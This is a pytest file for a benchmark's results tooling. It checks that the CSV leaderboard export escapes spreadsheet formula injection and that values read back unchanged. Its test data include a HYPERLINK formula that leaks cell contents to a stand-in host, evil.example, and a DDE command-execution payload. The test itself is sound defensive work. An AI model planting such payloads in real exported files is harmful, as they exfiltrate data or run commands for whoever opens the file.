"""Names from a results folder are data, never formulas (issue 29, item 1).

A planted ``leaderboard.sqlite`` (or ``metrics.json`` rebuilt into one) may name a method
``=HYPERLINK(...)``: the CSV export must not hand a spreadsheet a formula.
"""

from __future__ import annotations

import numpy as np

from bench.pipeline import slab_scores, write_tables
from bench.report.exports import export_leaderboard, read_csv
from bench.results import OVERLAP_TABLES, ResultsStore, load_leaderboard, write_json

FORMULA_METHOD = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULA_DATASET = "+cmd|' /C calc'!A0"


def _gt() -> np.ndarray:
    return (np.indices((8, 16, 16)).sum(axis=0) // 6 + 1).astype(np.uint64)


def _run(store: ResultsStore, run_id: str, seed: int, method: str, dataset: str = "synthetic",
         family: str = "external") -> None:
    gt = _gt()
    seg = gt.copy()
    rng = np.random.default_rng(seed)
    flip = rng.random(seg.shape) < 0.02
    seg[flip] += 100
    _, entries = slab_scores(gt, seg, 2)
    row = {"run_id": run_id, "created": f"2026-01-01T00:00:0{seed}", "method": method,
           "family": family, "dataset": dataset, "split": "test", "split_hash": "h1",
           "profile": "smoke", "postprocess": "waterz", "param_name": "threshold",
           "param_value": 0.5, "voi": 0.5 + 0.01 * seed, "voi_split": 0.25, "voi_merge": 0.25,
           "arand": 0.1, "cremi_score": 0.1, "seed": seed, "study": None}
    write_json(store.run_dir(run_id) / "metrics.json", {"rows": [row], "details": {}})
    write_tables(store.run_dir(run_id) / OVERLAP_TABLES, {"waterz": entries})
    store.add_rows([row])


def test_csv_export_neutralises_formulas_and_reads_back_unchanged(tmp_path):
    store = ResultsStore(tmp_path / "results")
    _run(store, "r-1", 0, FORMULA_METHOD, dataset=FORMULA_DATASET, family="@SUM(A1)")
    _run(store, "r-2", 1, "-x", family="\tTAB")
    _run(store, "r-3", 2, "plain-net", family="-1.5")
    (path,) = export_leaderboard(store.root, tmp_path / "export", ["csv"])
    text = path.read_text()
    cells = [c.strip('"') for line in text.splitlines()[1:] for c in line.split(",")]
    starts = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert starts == [], starts
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text and "'-x" in text
    assert "-1.5" in text and "'-1.5" not in text  # a number stays a number
    # read back with the leaderboard's types, every name as it was
    back = read_csv(path).sort_values("run_id").reset_index(drop=True)
    board = load_leaderboard(store.root).sort_values("run_id").reset_index(drop=True)
    assert back["method"].tolist() == board["method"].tolist()
    assert back["method"].tolist()[0] == FORMULA_METHOD
    assert back["family"].tolist() == ["@SUM(A1)", "\tTAB", "-1.5"]
